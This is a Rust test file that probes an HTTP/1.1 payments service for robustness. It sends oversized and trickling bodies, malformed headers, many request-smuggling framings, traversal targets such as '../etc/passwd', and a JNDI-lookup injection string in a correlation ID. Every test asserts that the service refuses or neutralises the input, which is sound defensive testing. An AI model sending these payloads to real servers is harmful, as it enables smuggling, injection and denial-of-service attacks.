//! HTTP/1.1 byte by byte, against the real binary: bodies that do not come as announced, requests that are none, clients that
//! leave. None of it reaches a database, so SQLite stands for both; what does is in `clients_that_leave`.

use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt as _;

use super::service::ServiceProcess;
use super::socket::{Answer, get, post};
use crate::support::http::{Api, PAGOS};
use crate::support::{Fixture, on_both_engines};

on_both_engines!(a_client_that_leaves_has_paid_or_has_not, a_client_that_only_stops_writing_is_answered);

const PAGO: &str = r#"{"cliente_id":1,"monto":"1"}"#;

fn head(headers: &str) -> String {
    format!("POST {PAGOS} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{headers}\r\n")
}

#[track_caller]
fn assert_ended_within(begun: Instant, seconds: u64) {
    assert!(begun.elapsed() < Duration::from_secs(seconds), "{:?}", begun.elapsed());
}

/// C8 and C11: the head is enough.
#[tokio::test]
async fn a_body_announced_too_large_is_refused_before_it_comes() {
    let service = ServiceProcess::on_sqlite(&[]).await;
    let begun = Instant::now();
    for headers in ["Content-Length: 17000\r\n", "Content-Length: 17000\r\nExpect: 100-continue\r\n"] {
        let mut socket = service.connect().await;
        let answer = socket.ask(head(headers)).await;
        // The first thing that comes is the refusal and no `100 Continue`.
        answer.assert_refused(413, "HTTP_ERROR");
    }
    assert_ended_within(begun, 3);
}

#[tokio::test]
async fn a_client_that_waits_for_leave_to_send_gets_it() {
    let service = ServiceProcess::on_sqlite(&[]).await;
    let mut socket = service.connect().await;
    let headers = format!("Content-Length: {}\r\nExpect: 100-continue\r\n", PAGO.len());
    assert_eq!(socket.ask(head(&headers)).await.status, 100);
    socket.ask(PAGO).await.assert_refused(400, "CLIENTE_NO_ENCONTRADO");
}

/// C9: 100 MB in chunks.
#[tokio::test]
async fn an_endless_body_is_refused_and_not_kept() {
    let service = ServiceProcess::on_sqlite(&[]).await;
    assert_eq!(service.status("/health/ready").await, 200);
    let before = service.memory_kib();
    let mut socket = service.connect().await;
    socket.write(head("Transfer-Encoding: chunked\r\n")).await;
    let chunk = [b"8000\r\n".as_slice(), &[b' '; 0x8000], b"\r\n"].concat();
    let mut sent = 0;
    while sent < 100_000_000 && socket.try_write(&chunk).await {
        sent += chunk.len();
    }
    assert!(sent < 100_000_000, "the service read everything");
    let grown = service.memory_kib().saturating_sub(before);
    assert!(grown <= 4 * 1024, "{grown} KiB");
    let mut polite = service.connect().await;
    polite.write(head("Transfer-Encoding: chunked\r\n")).await;
    polite.write(&chunk).await;
    polite.answer().await.assert_refused(413, "HTTP_ERROR");
}

/// C12.
#[tokio::test]
async fn a_body_that_trickles_is_408_within_the_deadline() {
    let service = ServiceProcess::on_sqlite(&[("REQUEST_TIMEOUT_MS", "1500")]).await;
    let begun = Instant::now();
    let mut socket = service.connect().await;
    socket.write(head("Content-Length: 1000\r\n")).await;
    let (mut reader, mut writer) = tokio::io::split(socket.stream);
    let trickle = async {
        while writer.write_all(b" ").await.is_ok() {
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    };
    let mut answer = vec![0; 12];
    tokio::select! {
        () = trickle => panic!("closed without an answer"),
        read = tokio::io::AsyncReadExt::read_exact(&mut reader, &mut answer) => assert_eq!(read.unwrap(), 12),
    }
    assert_eq!(answer, b"HTTP/1.1 408");
    assert_ended_within(begun, 4);
}

/// C13: the head must have come within 5 s.
#[tokio::test]
async fn a_head_that_does_not_come_is_not_waited_for() {
    let service = ServiceProcess::on_sqlite(&[]).await;
    let begun = Instant::now();
    let (mut silent, mut half) = (service.connect().await, service.connect().await);
    half.write("GET /health/live HTTP/1.1\r\nHost: x\r\n").await;
    let mut trickling = service.connect().await;
    let trickle = async {
        for byte in get("/health/live").bytes().cycle() {
            if !trickling.try_write(&[byte]).await {
                break;
            }
            tokio::time::sleep(Duration::from_millis(250)).await;
        }
    };
    let (silent, half, ()) = tokio::join!(silent.rest(), half.rest(), trickle);
    assert!(!is_success(&silent) && !is_success(&half));
    assert_ended_within(begun, 8);
    assert_eq!(service.status("/health/live").await, 200);
}

fn is_success(bytes: &[u8]) -> bool {
    bytes.starts_with(b"HTTP/1.1 2")
}

/// C14: a request in two readings. The second one must never be answered.
const AMBIGUOUS: &[&str] = &[
    "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    "Content-Length: 5\r\nContent-Length: 6\r\n\r\n12345",
    "Content-Length: 5, 6\r\n\r\n12345",
    "Content-Length: -1\r\n\r\n",
    "Content-Length: +5\r\n\r\n12345",
    "Content-Length: 5x\r\n\r\n12345",
    "Content-Length: 99999999999999999999\r\n\r\n",
    "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\x0b\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n",
    "Transfer-Encoding: chunked\r\n\r\n-1\r\n",
    "Transfer-Encoding: chunked\r\n\r\n0x5\r\n12345\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n5\n12345\n0\n\n",
];

#[tokio::test]
async fn a_smuggled_request_is_never_answered() {
    let service = ServiceProcess::on_sqlite(&[]).await;
    for framing in AMBIGUOUS {
        let mut socket = service.connect().await;
        let first = format!("POST {PAGOS} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{framing}");
        socket.write(format!("{first}GET /health/smuggled HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")).await;
        socket.stream.shutdown().await.unwrap();
        let read = String::from_utf8_lossy(&socket.rest().await).into_owned();
        assert!(read.matches("HTTP/1.1 ").count() <= 1 && !read.contains("HTTP/1.1 2"), "{framing:?}: {read}");
    }
    assert_eq!(service.status("/health/live").await, 200);
    let log = service.stop().stdout;
    assert!(!log.contains("smuggled"), "{log}");
}

/// C15: headers that are none.
const NO_HEADERS: &[&[u8]] = &[
    b"X-A: 1\r\n folded",
    b"X-A : 1",
    b" X-A: 1",
    b"X-A: \0",
    b"X-A: \x1b[2J",
    b"X\0A: 1",
    b"X-A",
    b": 1",
    b"X-A: 1\rX-B: 2",
    b"X-A: 1\nX-B: 2",
];

/// C17, and lines that are no request.
const NO_REQUESTS: &[&[u8]] = &[
    b"GET /health/live HTTP/3.0\r\nHost: x\r\n\r\n",
    b"GET /health/live HTTP/1.1 x\r\nHost: x\r\n\r\n",
    b"GET /health/live\0 HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET\x1b /health/live HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET  /health/live HTTP/1.1\r\nHost: x\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET /health/live\r\n\r\n",
    // The beginning of a TLS handshake.
    b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03ZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZ",
];

fn no_requests() -> Vec<Vec<u8>> {
    let with = |headers: &[u8]| [b"GET /health/live HTTP/1.1\r\nHost: x\r\n", headers, b"\r\n\r\n"].concat();
    let mut requests: Vec<_> = NO_REQUESTS.iter().map(|request| request.to_vec()).collect();
    requests.extend(NO_HEADERS.iter().map(|headers| with(headers)));
    // C16: too many headers, too large ones, too long a target.
    let many: Vec<_> = (0..101).map(|number| format!("X-{number}: 1")).collect();
    requests.push(with(many.join("\r\n").as_bytes()));
    requests.push(with(format!("X-A: {}", "a".repeat(500_000)).as_bytes()));
    requests.push(format!("GET /{} HTTP/1.1\r\nHost: x\r\n\r\n", "a".repeat(70_000)).into_bytes());
    requests
}

#[tokio::test]
async fn what_is_no_request_is_refused_and_the_connection_closed() {
    let service = ServiceProcess::on_sqlite(&[]).await;
    for request in no_requests() {
        let begun = Instant::now();
        let mut socket = service.connect().await;
        socket.write(&request).await;
        let read = socket.rest().await;
        let shown = String::from_utf8_lossy(&request[..request.len().min(80)]).into_owned();
        assert!(!is_success(&read), "{shown:?}: {}", String::from_utf8_lossy(&read));
        assert!(begun.elapsed() < Duration::from_secs(8), "{shown:?}: {:?}", begun.elapsed());
    }
    assert_eq!(service.status("/health/live").await, 200);
    let log = service.stop().stdout;
    assert!(!log.contains("\"ERROR\""), "{log}");
}

/// C18.
#[tokio::test]
async fn pipelined_requests_are_answered_in_order() {
    let service = ServiceProcess::on_sqlite(&[]).await;
    let mut socket = service.connect().await;
    let asked: String =
        (0..100).map(|number| format!("GET /n/{number} HTTP/1.1\r\nHost: x\r\nX-Correlation-ID: n-{number}\r\n\r\n")).collect();
    socket.write(asked).await;
    for number in 0..100 {
        let answer = socket.answer().await;
        answer.assert_refused(404, "HTTP_ERROR");
        assert_eq!(answer.header("x-correlation-id"), Some(format!("n-{number}").as_str()));
    }
    let endpoints: Vec<_> =
        service.stop().records().iter().filter_map(|record| record["endpoint"].as_str().map(str::to_owned)).collect();
    assert_eq!(endpoints, (0..100).map(|number| format!("/n/{number}")).collect::<Vec<_>>());
}

/// C21 and C22: targets that a client library would tidy up.
const ODD_TARGETS: &[&str] = &[
    "GET /api/v1/../v1/pagos",
    "GET //api/v1/pagos",
    "GET /api/v1/pagos/",
    "GET /%61pi/v1/pagos",
    "GET /api/v1/pagos%00",
    "GET /%1b%5b2J%0d%0a",
    "GET /api/v1/clientes/１",
    "CONNECT x:443",
    "OPTIONS *",
    "GET http://evil.cl/nope",
    "GET ../etc/passwd",
    "GET nope",
    "GET /nope#fragment",
    "get /api/v1/pagos",
];

#[tokio::test]
async fn an_odd_target_is_answered_in_the_envelope_or_refused() {
    let service = ServiceProcess::on_sqlite(&[]).await;
    for target in ODD_TARGETS {
        let mut socket = service.connect().await;
        socket.write(format!("{target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")).await;
        if let Some(answer) = socket.answer_or_end().await {
            assert_dressed_or_parser_s(&answer, target);
        }
    }
    let stdout = service.stop().stdout;
    assert!(stdout.bytes().all(|byte| byte >= b' ' || byte == b'\n'), "{stdout}");
}

/// Any failure of ours is in the envelope; the parser's own has no body.
#[track_caller]
fn assert_dressed_or_parser_s(answer: &Answer, target: &str) {
    assert!((400..500).contains(&answer.status), "{target}: {answer:?}");
    if answer.header("x-correlation-id").is_some() {
        assert_eq!(answer.json()["success"], false, "{target}");
    } else {
        assert_eq!((answer.status, answer.body.as_str()), (400, ""), "{target}");
    }
}

/// C22.
#[tokio::test]
async fn the_host_is_no_secret_and_no_crash() {
    let service = ServiceProcess::on_sqlite(&[]).await;
    for hosts in ["", "Host: a\r\nHost: b\r\n", "Host: \r\n", "Host: evil.cl:99999\r\n"] {
        let mut socket = service.connect().await;
        let answer = socket.ask(format!("GET /nope HTTP/1.1\r\n{hosts}\r\n")).await;
        assert!(answer.status == 404 || answer.status == 400, "{hosts:?}: {answer:?}");
    }
    let absolute = service.connect().await.ask("GET http://other/health/live HTTP/1.1\r\nHost: x\r\n\r\n").await;
    assert_eq!(absolute.status, 200);
    let old = service.connect().await.ask("GET /health/live HTTP/1.0\r\n\r\n").await;
    assert_eq!(old.status, 200);
}

/// F3 and F4: two, or one that is no id, are replaced and seen nowhere.
#[tokio::test]
async fn a_correlation_id_that_is_none_is_replaced_and_never_logged() {
    let service = ServiceProcess::on_sqlite(&[]).await;
    let long = format!("X-Correlation-ID: canario{}\r\n", "a".repeat(122));
    let headers: [&[u8]; 9] = [
        b"X-Correlation-ID: canario-1\r\nX-Correlation-ID: canario-2\r\n",
        b"X-Correlation-ID: canario\xff\r\n",
        b"X-Correlation-ID: canario a=1 level=ERROR\r\n",
        b"X-Correlation-ID: {\"canario\":1}\r\n",
        b"X-Correlation-ID: \xc3\xa9canario\r\n",
        b"X-Correlation-ID: ../../canario\r\n",
        b"X-Correlation-ID: ${jndi:ldap://canario.cl/a}\r\n",
        b"X-Correlation-ID:\r\n",
        long.as_bytes(),
    ];
    for header in headers {
        let request = [b"GET /health/live HTTP/1.1\r\nHost: x\r\n", header, b"\r\n"].concat();
        let answer = service.connect().await.ask(request).await;
        assert_eq!(answer.header("x-correlation-id").map(str::len), Some(36), "{answer:?}");
    }
    let log = service.stop().stdout;
    assert!(!log.contains("canario"), "{log}");
}

/// C25.
async fn a_client_that_only_stops_writing_is_answered(fixture: Fixture) {
    fixture.created("ana@x.cl", "1.00").await;
    let service = ServiceProcess::over(&fixture).await;
    let mut socket = service.connect().await;
    socket.write(post(PAGOS, PAGO)).await;
    socket.stream.shutdown().await.unwrap();
    let answer = socket.answer().await;
    assert_eq!((answer.status, &answer.json()["data"]["monto"]), (200, &"1.00".into()));
    assert_eq!(socket.rest().await, b"");
}

/// Sends a pago and breaks the connection with a reset after a moment.
async fn pay_and_leave(service: &ServiceProcess, moment: Duration) {
    let mut socket = service.connect().await;
    socket.write(post(PAGOS, PAGO)).await;
    tokio::time::sleep(moment).await;
    socket.stream.set_zero_linger().unwrap();
}

/// C26.
async fn a_client_that_leaves_has_paid_or_has_not(fixture: Fixture) {
    fixture.created("ana@x.cl", "50.00").await;
    let service = ServiceProcess::over(&fixture).await;
    for number in 0..40 {
        pay_and_leave(&service, Duration::from_micros(number * 100)).await;
    }
    // Who stays is served, and everybody's books are right.
    assert_eq!(service.connect().await.ask(post(PAGOS, PAGO)).await.status, 200);
    let exit = service.stop();
    assert_eq!(exit.status, Some(0));
    assert!(exit.records().iter().all(|record| record["level"] != "ERROR"), "{}", exit.stdout);
    fixture.assert_money_rule().await;
    let paid = fixture.count("select count(*) from pagos").await;
    assert_eq!(Api::over(&fixture).await.saldo(1).await, format!("{}.00", 50 - paid));
}
